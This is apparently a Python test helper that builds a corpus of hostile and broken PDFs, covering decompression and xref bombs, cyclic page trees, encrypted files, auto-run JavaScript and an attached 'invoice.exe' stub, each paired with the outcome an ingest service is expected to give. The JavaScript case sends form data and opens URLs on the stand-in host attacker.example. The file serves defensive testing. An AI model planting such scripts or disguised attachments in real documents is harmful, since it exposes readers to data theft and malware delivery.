"""A corpus of hostile and broken PDFs, generated (never committed), each with the outcome ingest
must give it: an ``IngestError`` code and words its reason must hold, or a document that is read.

Everything is written from code, byte for byte the same on every run (pypdf's encryption draws
its salts, IVs and file ids from ``secrets``; they come from a seeded generator here), so a
failure reproduces from the case's name alone. ``python -m tests.pipeline.hostile OUT`` writes
the files and a ``manifest.json`` of the expected outcomes, to try them on a running service.

``tests/pipeline/test_ingest_hostile.py`` runs every case through ``ingest_bytes`` under the
ingest's own limits. The builders reuse ``tests.pipeline.fixtures`` where it has one.
"""
from __future__ import annotations

import contextlib
import hashlib
import io
import json
import random
import secrets
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.pipeline import fixtures

__all__ = ["CASES", "Case", "WHAT_TO_DO", "build", "write_corpus"]

VISIBLE = b"Hello ANNA MARIA ERIKSSON, born 12 MAR 1985, Swedish"
# What every rejection's reason must tell its reader to do next (SECURITY.md: "a message that
# names what was found and says what to do").
WHAT_TO_DO = ("send it again", "send the document as a PDF", "ask the sender", "split it", "unprotected copy",
              "scan the document again")


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    code: str | None                    # the IngestError code; None: the document is read
    says: tuple[str, ...] = ()          # words the reason (or, when read, a note) must hold
    text: tuple[str, ...] = ()          # read: words the first page's text must hold
    not_text: tuple[bytes, ...] = ()    # read: what must never surface as text (scripts, attachments)
    why: str = ""


# --- builders -------------------------------------------------------------------------

def _pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF of these numbered objects with a correct cross-reference table (unlike an edited one,
    which pypdf would first have to repair)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


def _stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _one_page(*, catalog_extra: bytes = b"", font_extra: bytes = b"", extra: dict[int, bytes] | None = None,
              text: bytes = VISIBLE) -> bytes:
    """One page of Helvetica text; objects 1 catalog, 2 pages, 3 font, 4 page, 5 its content."""
    return _pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica" + font_extra + b" >>",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
           b"/Contents 5 0 R >>",
        5: _stream(b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"),
        **(extra or {}),
    })


@contextlib.contextmanager
def _seeded_secrets(seed: str) -> Iterator[None]:
    """pypdf's writer and encryption call ``secrets.token_bytes``: from a seeded generator, for now."""
    rng = random.Random(seed)
    original = secrets.token_bytes
    secrets.token_bytes = lambda n=32: rng.randbytes(n)  # type: ignore[assignment]
    try:
        yield
    finally:
        secrets.token_bytes = original  # type: ignore[assignment]


def encrypted(algorithm: str, user_password: str) -> Callable[[], bytes]:
    def build_it() -> bytes:
        from pypdf import PdfReader, PdfWriter

        with _seeded_secrets(f"{algorithm}/{user_password}"):
            writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_one_page())))
            writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm=algorithm)
            out = io.BytesIO()
            writer.write(out)
        return out.getvalue()
    return build_it


def page_tree_loop() -> bytes:
    """The page tree lists itself among its kids."""
    return _one_page().replace(b"/Kids [4 0 R] /Count 1", b"/Kids [4 0 R 2 0 R] /Count 2")


def deep_page_tree(depth: int = 1000) -> bytes:
    """A chain of ``depth`` /Pages nodes above one page: small, but deeper than any real document."""
    objects = {1: b"<< /Type /Catalog /Pages 10 0 R >>",
               3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
               4: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
                  b"/Contents 5 0 R >>" % (10 + depth - 1),
               5: _stream(b"BT /F1 12 Tf 72 720 Td (" + VISIBLE + b") Tj ET")}
    for i in range(depth):
        kid = b"4 0 R" if i == depth - 1 else b"%d 0 R" % (11 + i)
        parent = b"" if i == 0 else b" /Parent %d 0 R" % (9 + i)
        objects[10 + i] = b"<< /Type /Pages /Kids [" + kid + b"] /Count 1" + parent + b" >>"
    return _pdf(objects)


def deep_array_nesting(depth: int = 5000) -> bytes:
    """An array nested ``depth`` deep in the catalog (a recursive parser's stack)."""
    return _one_page(catalog_extra=b" /X " + b"[" * depth + b"]" * depth)


def javascript() -> bytes:
    """JavaScript run on open, and a page annotation's action: a reader that ran it would alert."""
    script = b"(app.alert\\('PWNED-BY-SCRIPT'\\); this.submitForm\\('http://attacker.example/'\\);)"
    return _one_page(catalog_extra=b" /OpenAction << /S /JavaScript /JS " + script + b" >>"
                                   b" /Names << /JavaScript << /Names [(run) 6 0 R] >> >>",
                     extra={6: b"<< /S /JavaScript /JS 7 0 R >>",
                            7: _stream(b"app.launchURL('http://attacker.example/EMBEDDED-SCRIPT-STREAM');")})


def embedded_file() -> bytes:
    """An attached executable, listed in the catalog's EmbeddedFiles and as a page annotation."""
    payload = b"MZ\x90\x00 EMBEDDED-PAYLOAD-BYTES: this program deletes everything"
    return _one_page(
        catalog_extra=b" /Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>",
        extra={6: b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 7 0 R >> >>",
               7: b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream"})


def broken_font() -> bytes:
    """A font whose encoding maps 'A' to a glyph that does not exist and whose /ToUnicode is not a
    CMap (it points at the page tree): the letters it cannot map come out as what they are."""
    return _one_page(font_extra=b" /Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding "
                                b"/Differences [65 /no.such.glyph] >> /ToUnicode 2 0 R")


def nul_bytes() -> bytes:
    return b"\x00" * 4096


def docx_named_pdf() -> bytes:
    """A ZIP (what a .docx is) that arrives named .pdf."""
    return b"PK\x03\x04\x14\x00\x06\x00" + b"[Content_Types].xml" + b"\x00" * 200


def truncated() -> bytes:
    data = _one_page()
    return data[: len(data) // 2]


def over_page_limit(n_pages: int = 51) -> bytes:
    """One page more than the default limit (50)."""
    return fixtures.raw_pdf([b"BT /F1 12 Tf 72 720 Td (Page %d of a long statement) Tj ET" % (i + 1)
                             for i in range(n_pages)], compress=False)


# --- the corpus -------------------------------------------------------------------------

_ENCRYPTION = ("RC4-40", "RC4-128", "AES-128", "AES-256")

CASES: tuple[Case, ...] = (
    Case("zero-bytes", lambda: b"", "empty_file", ("empty", "0 bytes"), why="an upload that failed"),
    Case("nul-bytes.pdf", nul_bytes, "not_pdf", ("not a PDF",)),
    Case("docx-named.pdf", docx_named_pdf, "not_pdf", ("not a PDF", "ZIP")),
    Case("truncated", truncated, "corrupt", ("truncated",)),
    Case("flate-bomb", lambda: fixtures.bomb_pdf(expanded_mb=80), "memory_limit", ("decompression bomb",),
         why="a stream that inflates 80 MB from a few hundred kB"),
    Case("xref-bomb", fixtures.xref_bomb_pdf, "corrupt", ("cross-reference table", "90000000"),
         why="an xref that declares 90 M entries"),
    Case("length-loop", fixtures.length_loop_pdf, "corrupt", ("loop",)),
    Case("page-tree-loop", page_tree_loop, "corrupt", ("cyclic",)),
    Case("deep-page-tree", deep_page_tree, "corrupt", ("page tree depth",)),
    # pypdf's recursion ends in "Error reading PDF file": the reason cannot name the nesting (yet)
    Case("deep-array-nesting", deep_array_nesting, "corrupt", ("damaged",)),
    Case("over-page-limit", over_page_limit, "too_many_pages", ("51 pages", "limit of 50")),
    *(Case(f"{alg.lower()}-user-password", encrypted(alg, "user-secret"), "encrypted", ("password",))
      for alg in _ENCRYPTION),
    # an empty user password protects nothing: the document is read, and says it was encrypted
    *(Case(f"{alg.lower()}-empty-user-password", encrypted(alg, ""), None,
           ("encrypted with an empty user password",), text=("ANNA MARIA ERIKSSON",)) for alg in _ENCRYPTION),
    # read, never executed: the page's text is what the page shows, the script is not text
    Case("javascript", javascript, None, text=("ANNA MARIA ERIKSSON",),
         not_text=(b"PWNED-BY-SCRIPT", b"EMBEDDED-SCRIPT-STREAM", b"attacker.example")),
    Case("embedded-file", embedded_file, None, text=("ANNA MARIA ERIKSSON",),
         not_text=(b"EMBEDDED-PAYLOAD-BYTES", b"invoice.exe")),
    # the letters the font maps are read; the 'A's it cannot map are not made up: grounding will
    # not find the name, so the field goes to a person
    Case("broken-font-encoding", broken_font, None, text=("Hello", "ERIKSSON", "1985, Swedish"),
         not_text=(b"ANNA MARIA",)),
)


def build(case: Case) -> bytes:
    return case.build()


def write_corpus(out: Path) -> dict[str, dict]:
    """Write every case to ``out`` (named ``<case>.pdf``) and ``manifest.json``; the manifest."""
    out.mkdir(parents=True, exist_ok=True)
    manifest = {}
    for case in CASES:
        data = build(case)
        name = case.name if case.name.endswith(".pdf") else f"{case.name}.pdf"
        (out / name).write_bytes(data)
        manifest[name] = {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data),
                          "outcome": "read" if case.code is None else "rejected", "code": case.code,
                          "says": list(case.says), "why": case.why}
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    return manifest


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    print(f"{len(write_corpus(target))} files in {target}")
